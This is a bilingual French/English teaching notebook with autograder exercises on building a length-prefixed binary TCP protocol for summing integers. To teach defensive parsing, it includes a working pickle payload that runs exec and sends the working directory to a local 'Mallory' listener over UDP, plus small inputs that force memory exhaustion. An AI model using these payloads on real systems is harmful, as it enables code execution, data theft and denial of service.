# %% [markdown] lang="fr"
# # Un protocole à vous : l’additionneur d’entiers
#
# **Durée : 60 minutes environ.** Un client envoie une liste d’entiers, le serveur répond par leur somme. Tout le reste, il faut en convenir.
#
# À la fin, vous saurez :
#
# - lire et écrire la spécification d’un petit protocole binaire ;
# - remettre dans un flux les limites que TCP n’a pas ;
# - choisir l’ordre des octets, et le dire ;
# - lire un `pickle` venu d’un inconnu sans lui obéir.
#
# Chaque expérience se joue en trois temps : devinez, lancez la cellule (Maj+Entrée), lisez l’explication.

# %% [markdown] lang="en"
# # A protocol of your own: the integer adder
#
# **About 60 minutes.** A client sends a list of integers, the server answers with their sum. Everything else has to be agreed on.
#
# At the end you will know how to:
#
# - read and write the specification of a small binary protocol;
# - put back into a stream the limits that TCP does not have;
# - choose the order of bytes, and say so;
# - read a `pickle` from a stranger without obeying it.
#
# Each experiment has three steps: guess, run the cell (Shift+Enter), read the explanation.

# %%
from autograder import check

# %% [markdown] lang="fr"
# ## Ce qui passe sur le réseau
#
# Un protocole est ce dont les deux bouts conviennent. Sa spécification dit s’il est en texte ou en binaire, quels messages sont valides, comment chacun est fait, sa version, les erreurs et qui s’en occupe. Voici le nôtre, version 1 :
#
# ```
# client                                  serveur
#   |-- 00 00 00 14  (20 octets suivent) -->|
#   |-- 80 04 95 ... (la liste, pickle) --->|
#   |<-- 00 00 00 00 00 00 00 2a (42) ------|
#   |-- une autre question, peut-être ----->|
#   |-- (j’ai fini) ----------------------->|
# ```
#
# - Une **question** : 4 octets, la taille de ce qui suit, sans signe, octet de poids fort d’abord ; au plus 1 048 576. Puis la liste, en `pickle`.
# - Une **réponse** : 8 octets, la somme, avec signe, octet de poids fort d’abord.
# - À la moindre erreur, le serveur **ferme sans répondre**, et sert le client suivant. Un message d’erreur serait pris pour une somme : huit octets sont huit octets.

# %% [markdown] lang="en"
# ## What happens on the network
#
# A protocol is what both ends have agreed on. Its specification says whether it is text or binary, which messages are valid, how each is made, its version, the errors and who deals with them. Here is ours, version 1:
#
# ```
# client                                  server
#   |-- 00 00 00 14  (20 bytes follow) ---->|
#   |-- 80 04 95 ... (the list, pickle) --->|
#   |<-- 00 00 00 00 00 00 00 2a (42) ------|
#   |-- another question, perhaps --------->|
#   |-- (I have finished) ----------------->|
# ```
#
# - A **request**: 4 bytes, the size of what follows, unsigned, most significant byte first; at most 1,048,576. Then the list, as a `pickle`.
# - A **reply**: 8 bytes, the sum, signed, most significant byte first.
# - On any error the server **closes without a reply**, and serves the next client. An error message would be taken for a sum: eight bytes are eight bytes.

# %% [markdown] lang="fr"
# ## Expérience 1 : dans quel ordre ?
#
# Il y a trois façons de mettre un objet en octets : le texte (`encode`), `pickle` pour les objets de Python, `struct` pour les nombres. Un serveur du kit, à côté du carnet, lit une taille de 4 octets comme notre protocole le veut, et dit combien d’octets il attend. Nous lui envoyons 20 de trois façons. **Devinez d’abord** : que lit-il chaque fois ?

# %% [markdown] lang="en"
# ## Experiment 1: in which order?
#
# There are three ways to turn an object into bytes: text (`encode`), `pickle` for Python’s objects, `struct` for numbers. A server of the kit, beside the notebook, reads a size of 4 bytes as our protocol wants it, and says how many bytes it waits for. We send it 20 in three ways. **Guess first**: what does it read each time?

# %%
import socket
import struct

from autograder import beside


def answer(size):
    return f"I wait for {struct.unpack('!I', size)[0]:,} bytes".encode()


with beside.answers(answer) as address:
    for form in ("!I", "<I", "I"):
        with socket.create_connection(address, timeout=2) as sock:
            sock.sendall(struct.pack(form, 20))
            sock.shutdown(socket.SHUT_WR)
            print(form, struct.pack(form, 20).hex(" "), sock.recv(100).decode())

# %% [markdown] lang="fr"
# Sans préfixe, l’ordre est celui **de la machine**, presque toujours l’inverse de celui du réseau. Lue à l’envers, la taille 20 devient 335 millions : l’autre bout attend, et personne ne voit d’erreur. `!` veut dire « ordre du réseau » ; écrivez-le toujours. Et `I`, ce sont 4 octets sans signe : il vous faudra une autre lettre pour 8 octets avec signe.

# %% [markdown] lang="en"
# Without a prefix the order is the **machine’s**, nearly always the opposite of the network’s. Read the wrong way round, the size 20 becomes 335 million: the other end waits, and nobody sees an error. `!` means “network order”; always write it. And `I` is 4 bytes without a sign: you will need another letter for 8 bytes with one.

# %% [markdown] lang="fr"
# ## Expérience 2 : un en-tête de quatre octets, en combien de morceaux ?
#
# Un serveur envoie un en-tête de 4 octets. **Devinez d’abord** : `recv(4)` rend-il 4 octets ?

# %% [markdown] lang="en"
# ## Experiment 2: a header of four bytes, in how many pieces?
#
# A server sends a header of 4 bytes. **Guess first**: does `recv(4)` return 4 bytes?

# %%
with beside.speaks(b"\x00\x00", b"\x00\x14", pause=0.2) as address:
    with socket.create_connection(address, timeout=2) as sock:
        print(sock.recv(4))
        print(sock.recv(4))

# %% [markdown] lang="fr"
# Même quatre octets peuvent arriver en deux fois. « Exactement tant d’octets » demande toujours une boucle : celle de `receive_exactly`, dans l’exercice 5. Elle sert deux fois par question : pour l’en-tête, puis pour ce qu’il annonce. (`sock.makefile("rb")` fait de la connexion un fichier, dont `read(4)` contient cette boucle : les expériences suivantes s’en servent.)

# %% [markdown] lang="en"
# Even four bytes may arrive in two goes. “Exactly so many bytes” always takes a loop: that of `receive_exactly`, in exercise 5. It is needed twice for each request: for the header, then for what it announces. (`sock.makefile("rb")` makes a file of the connection, whose `read(4)` has that loop in it: the next experiments use it.)

# %% [markdown] lang="fr"
# ## Expérience 3 : ouvrir un cadeau d’inconnu
#
# Un serveur prétend envoyer une liste d’entiers, en `pickle`. C’est Mallory qui l’a préparée ; elle attend à côté, sur un port UDP. Notre programme ne fait que **lire** cette liste. **Devinez d’abord** : que peut recevoir Mallory, à qui nous n’envoyons rien ?

# %% [markdown] lang="en"
# ## Experiment 3: opening a stranger’s present
#
# A server claims to send a list of integers, as a `pickle`. Mallory has prepared it; she waits beside the notebook, on a UDP port. Our program only **reads** that list. **Guess first**: what can Mallory receive, to whom we send nothing?

# %%
import pickle

SPY = "import os, socket; socket.socket(type=socket.SOCK_DGRAM).sendto(os.getcwd().encode(), {})"


class Present:
    def __reduce__(self):
        return exec, (SPY.format(mallory.address),)


with beside.correspondent() as mallory:
    parcel = pickle.dumps(Present())
    with beside.speaks(parcel) as address, socket.create_connection(address, timeout=2) as sock:
        print("the list is", pickle.load(sock.makefile("rb")))
    print("Mallory received", mallory.receives())

# %% [markdown] lang="fr"
# Le nom de votre dossier ! Un `pickle` n’est pas une donnée, c’est un **programme** : il nomme une fonction et ses arguments, et le lire, c’est l’appeler. Ici `exec`, qui aurait aussi bien pu effacer vos fichiers. Vérifier ensuite que l’on a bien une liste ne sert à rien : c’est déjà fait.
#
# Pour nos entiers, il suffit d’un lecteur qui ne trouve **aucune** fonction. **Devinez d’abord** : lit-il encore une vraie liste ?

# %% [markdown] lang="en"
# The name of your folder! A `pickle` is not data, it is a **program**: it names a function and its arguments, and to read it is to call it. Here `exec`, which might as well have deleted your files. To check afterwards that one has got a list is of no use: it has happened.
#
# For our integers, a reader that finds **no** function is enough. **Guess first**: does it still read a real list?


# %%
class Careful(pickle.Unpickler):
    def find_class(self, module, name):
        raise pickle.UnpicklingError(f"nobody asked for {module}.{name}")


for sent in (pickle.dumps([20, 22]), parcel):
    with beside.speaks(sent) as address, socket.create_connection(address, timeout=2) as sock:
        try:
            print(Careful(sock.makefile("rb")).load())
        except pickle.UnpicklingError as error:
            print("refused:", error)

# %% [markdown] lang="fr"
# Attention : un `pickle` cassé peut lever bien d’autres erreurs (`EOFError`, `ValueError`, `IndexError`…). Votre fonction n’en promet qu’une : `ValueError`.

# %% [markdown] lang="en"
# Careful: a broken `pickle` may raise many other errors (`EOFError`, `ValueError`, `IndexError`…). Your function promises one only: `ValueError`.

# %% [markdown] lang="fr"
# ## Expérience 4 : que coûtent quelques octets ?
#
# Deux inconnus nous envoient quelques octets. Le premier annonce une taille de cent millions, et n’envoie rien de plus. Le second envoie un `pickle` de sept octets, que lit notre lecteur prudent. **Devinez d’abord** : combien de mémoire chacun nous fait-il réserver ?

# %% [markdown] lang="en"
# ## Experiment 4: what do a few bytes cost?
#
# Two strangers send us a few bytes. The first announces a size of a hundred million, and sends nothing more. The second sends a `pickle` of seven bytes, which our careful reader reads. **Guess first**: how much memory does each make us reserve?

# %%
import tracemalloc

with beside.speaks(b"\x06\x00\x00\x00") as address:
    with socket.create_connection(address, timeout=2) as sock, sock.makefile("rb") as stream:
        (announced,) = struct.unpack("!I", stream.read(4))
        tracemalloc.start()
        print(f"{announced:,} bytes announced, {len(stream.read(announced))} came")
        print(f"{tracemalloc.get_traced_memory()[1]:,} bytes reserved")
        tracemalloc.stop()

# %%
with beside.speaks(b"]r\x00\x00\x40\x00.") as address:
    with socket.create_connection(address, timeout=2) as sock, sock.makefile("rb") as stream:
        tracemalloc.start()
        print("the list is", Careful(stream).load())
        print(f"{tracemalloc.get_traced_memory()[1]:,} bytes reserved")
        tracemalloc.stop()

# %% [markdown] lang="fr"
# Quatre octets en ont fait réserver cent millions : c’est pourquoi la spécification fixe un maximum, et que l’on **vérifie la taille avant de lire**.
#
# Et sept octets passent sous n’importe quel maximum ! Ils disent « rangez cette liste vide à la quatre-millionième place » : le lecteur prudent n’appelle aucune fonction, mais il prépare toutes les places. Avec un plus grand nombre, la mémoire n’y suffirait pas. `find_class` vous protège des fonctions d’un inconnu, pas de cela. C’est pourquoi les vrais protocoles se passent de `pickle` : du JSON, du texte, ou des nombres avec `struct`.

# %% [markdown] lang="en"
# Four bytes had a hundred million reserved: that is why the specification sets a limit, and why one **checks the size before reading**.
#
# And seven bytes are below any limit! They say “put this empty list into place number four million”: the careful reader calls no function, but it prepares all the places. With a larger number there would not be memory enough. `find_class` protects you from a stranger’s functions, not from this. That is why real protocols do without `pickle`: JSON, text, or numbers with `struct`.

# %% [markdown] lang="fr"
# ## Expérience 5 : qu’est-ce qu’une liste d’entiers ?
#
# Ce serveur vérifie que chaque élément est un `int`, puis rend la somme. **Devinez d’abord** : laquelle de ces trois questions refuse-t-il ?

# %% [markdown] lang="en"
# ## Experiment 5: what is a list of integers?
#
# This server checks that each element is an `int`, then returns the sum. **Guess first**: which of these three requests does it refuse?

# %%
import io


def add(payload):
    numbers = Careful(io.BytesIO(payload)).load()
    return str(sum(numbers)).encode() if all(isinstance(n, int) for n in numbers) else b"refused"


with beside.answers(add) as address:
    for numbers in ([20, 22], [True, True], {10: "ten", 20: "twenty"}):
        with socket.create_connection(address, timeout=2) as sock:
            sock.sendall(pickle.dumps(numbers))
            sock.shutdown(socket.SHUT_WR)
            print(numbers, "gives", sock.recv(100).decode())

# %% [markdown] lang="fr"
# Aucune ! Pour Python, `True` est un `int` (il vaut 1), et parcourir un dictionnaire donne ses clés. Notre protocole refuse les deux : il veut une liste, et des `int` qui ne soient pas des `bool`. Une spécification se vérifie mot à mot.

# %% [markdown] lang="en"
# None! To Python `True` is an `int` (it is worth 1), and going through a dictionary gives its keys. Our protocol refuses both: it wants a list, and each `int` not to be a `bool`. A specification is checked word by word.

# %% [markdown] lang="fr"
# ## Le contrat, première partie : des octets et des nombres
#
# - `encode_request(numbers)` rend les octets d’une question. `ValueError` pour ce que le protocole interdit : autre chose qu’une liste d’`int`, un contenu au-dessus de la limite.
# - `decode_payload(payload)` rend la liste que contiennent ces octets (sans la taille). Elle n’importe rien et n’appelle rien, quoi qu’ils demandent. `ValueError` pour tout ce qui n’est pas une simple liste d’`int`.
# - `encode_sum(total)` rend les octets d’une réponse ; `ValueError` si la somme n’y tient pas, et pour un `bool`.
# - `decode_sum(data)` rend la somme ; `ValueError` s’il n’y a pas 8 octets.
#
# Ouvrez `ex07_adder_protocol.py`, écrivez ces quatre fonctions l’une après l’autre, **enregistrez**, vérifiez.

# %% [markdown] lang="en"
# ## The contract, part one: bytes and numbers
#
# - `encode_request(numbers)` returns the bytes of a request. `ValueError` for what the protocol forbids: something else than a list of `int`, a payload above the limit.
# - `decode_payload(payload)` returns the list that these bytes hold (without the size). It imports nothing and calls nothing, whatever they ask for. `ValueError` for anything but a plain list of `int`.
# - `encode_sum(total)` returns the bytes of a reply; `ValueError` when the sum does not fit, and for a `bool`.
# - `decode_sum(data)` returns the sum; `ValueError` when there are not 8 bytes.
#
# Open `ex07_adder_protocol.py`, write these four functions one after the other, **save**, check.

# %% tags=["check"]
check("ex07.encode_request")

# %% tags=["check"]
check("ex07.decode_payload")

# %% tags=["check"]
check("ex07.encode_sum")

# %% tags=["check"]
check("ex07.decode_sum")

# %% [markdown] lang="fr"
# ## Le contrat, deuxième partie : le serveur
#
# - `AdderServer(host="127.0.0.1", port=0)` lie et écoute aussitôt ; `address` dit où.
# - `run()` sert les clients, l’un après l’autre ou plusieurs à la fois, jusqu’à `stop()`. Une connexion peut porter plusieurs questions, chacune après la réponse à la précédente, ou toutes d’un coup.
# - À la moindre erreur (taille trop grande, fin trop tôt, contenu qui n’est pas une simple liste d’`int`, somme qui ne tient pas), la connexion est fermée **sans réponse**, et le client suivant est servi.
# - `run` regarde `_stopped` au moins une fois par seconde, même quand un client est connecté et se tait ; quand elle revient, tout est fermé. `stop()` est donnée.

# %% [markdown] lang="en"
# ## The contract, part two: the server
#
# - `AdderServer(host="127.0.0.1", port=0)` binds and listens at once; `address` says where.
# - `run()` serves clients, one after the other or several at once, until `stop()`. One connection may carry several requests, each after the reply to the one before, or all in a row.
# - On any error (a size that is too large, an early end, a payload that is no plain list of `int`, a sum that does not fit) the connection is closed **without a reply**, and the next client is served.
# - `run` looks at `_stopped` once a second at least, also while a client is connected and silent; when it returns, everything is closed. `stop()` is given.

# %% tags=["check"]
check("ex07.AdderServer")

# %% [markdown] lang="fr"
# ## Le contrat, troisième partie : le client
#
# - `AdderClient(address, timeout=5.0)` s’emploie avec `with` : plusieurs sommes passent alors par une seule connexion, fermée à la fin, et une erreur survenue dedans continue son chemin. Sans `with`, une connexion par somme convient aussi.
# - `add(numbers)` rend la somme que dit le serveur. `ConnectionError` quand il ferme ou rompt sans répondre, `ValueError` pour ce que le protocole interdit, `TimeoutError` après `timeout` secondes sans réponse.

# %% [markdown] lang="en"
# ## The contract, part three: the client
#
# - `AdderClient(address, timeout=5.0)` is used with `with`: several sums then share one connection, closed at the end, and an error inside goes through. Without `with`, one connection for each sum will do as well.
# - `add(numbers)` returns the sum that the server says. `ConnectionError` when it closes or breaks off without a reply, `ValueError` for what the protocol forbids, `TimeoutError` after `timeout` seconds without an answer.

# %% tags=["check"]
check("ex07.AdderClient")

# %% [markdown] lang="fr"
# ## Question
#
# Un collègue propose de remplacer `pickle` par du texte : les nombres en décimal, séparés par des espaces, puis une fin de ligne. On n’a plus besoin de taille. Qu’y gagne-t-on, qu’y perd-on ? Comment le serveur sait-il alors qu’une question est finie ? Répondez en cinq phrases environ, dans la cellule qui suit (double-cliquez dessus).

# %% [markdown] lang="en"
# ## Question
#
# A colleague proposes to replace `pickle` by text: the numbers in decimal, separated by spaces, then a line end. No more need for a size. What is gained, what is lost? How does the server then know that a request is over? Answer in about five sentences, in the cell that follows (double-click it).

# %% [markdown] tags=["answer"]

# %% [markdown] lang="fr"
# ## Les erreurs classiques, par leur nom
#
# - `endianness` : écrire dans l’ordre de sa machine.
# - `header-not-looped` : croire que quatre octets arrivent ensemble.
# - `recv-n-exact` : croire que `recv(n)` rend `n` octets.
# - `trust-length` : réserver ou attendre ce qu’un inconnu annonce.
# - `pickle-network` : appeler `pickle.loads` sur ce qui vient du réseau.
# - `bool-is-int` : laisser passer `True`.
# - `one-request-per-connection` : fermer après la première réponse.
#
# Chacune a sa leçon. Dans un terminal, par exemple : `python -m autograder explain pickle-network`.
#
# ## Pour continuer
#
# Vous avez écrit les deux bouts d’un protocole. Essayez votre client contre le serveur d’un voisin : s’ils s’entendent sans que vous ayez parlé, c’est que la spécification était bonne.

# %% [markdown] lang="en"
# ## The classical mistakes, by name
#
# - `endianness`: writing in one’s own machine’s order.
# - `header-not-looped`: believing that four bytes arrive together.
# - `recv-n-exact`: believing that `recv(n)` returns `n` bytes.
# - `trust-length`: reserving, or waiting for, what a stranger announces.
# - `pickle-network`: calling `pickle.loads` on what comes from the network.
# - `bool-is-int`: letting `True` through.
# - `one-request-per-connection`: closing after the first reply.
#
# Each has its lesson. In a terminal, for example: `python -m autograder explain pickle-network`.
#
# ## Where to go next
#
# You have written both ends of a protocol. Try your client against a neighbour’s server: if they understand each other without your having talked, the specification was good.

# %% tags=["module"]
